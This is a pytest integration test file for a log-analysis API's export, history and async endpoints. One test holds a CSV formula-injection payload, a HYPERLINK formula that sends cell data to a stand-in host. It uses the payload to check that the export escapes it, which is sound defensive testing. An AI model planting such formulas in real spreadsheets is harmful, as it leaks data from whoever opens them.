import csv
import io
import json

import pytest

pytestmark = pytest.mark.integration

URL = "/api/v1/analyses"


@pytest.fixture
def settings():
    return {"web": {"export_page": 3}}


def test_an_export_has_every_analysis_once_while_more_comes_in(api):
    ids = [api.post(URL, json={"log_content": f"log {number}"}).json["id"] for number in range(10)]
    pieces = []
    for piece in api.get(f"{URL}/export").iter_encoded():
        pieces.append(piece)
        api.post(URL, json={"log_content": "later"})
    assert [json.loads(line)["id"] for line in b"".join(pieces).splitlines()] == ids[::-1]
    assert len(pieces) == 4


def test_what_is_hostile_in_a_log_is_text_in_a_spreadsheet(api):
    hostile = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
    api.post(URL, json={"log_content": "log", "service_name": hostile, "tags": ["@SUM(1)"]})
    text = api.get(f"{URL}/export?format=csv&service_name=%3DHYPERLINK(%22http://192.0.2.1/%3F%22%26A1,%22x%22)").text
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert (row["service_name"], row["tags"]) == (f"'{hostile}", "'@SUM(1)")


def test_history_pages_by_number(api):
    ids = [api.post(URL, json={"log_content": f"log {number}"}).json["id"] for number in range(5)]
    assert [one["id"] for one in api.post("/history", json={"limit": 2, "offset": 2}).json] == ids[1:3][::-1]


def test_one_call_that_is_not_answered_in_time_has_a_place_to_look(api):
    answer = api.post("/analyze?wait=0.2", json={"log_content": "log"})
    assert answer.status_code == 202
    assert api.get(answer.headers["Location"]).json["status"] == "queued"
